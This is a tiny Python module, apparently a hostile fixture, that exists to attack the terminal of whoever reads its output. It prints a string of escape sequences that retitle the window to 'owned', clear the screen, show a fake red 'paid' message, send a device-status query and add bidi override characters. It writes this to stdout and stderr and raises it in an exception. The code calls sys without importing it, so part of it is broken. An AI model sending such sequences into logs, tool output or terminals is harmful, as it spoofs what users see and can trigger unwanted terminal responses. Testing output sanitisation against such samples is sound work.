"""Controls the terminal of the reader of its output."""

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31mpaid: 1000 SHF\x1b[0m\r\x9b5n\u202e\u2066"


def attack(config):
    print(EVIL)
    sys.stderr.write(EVIL)
    raise RuntimeError(EVIL + "nothing to see")
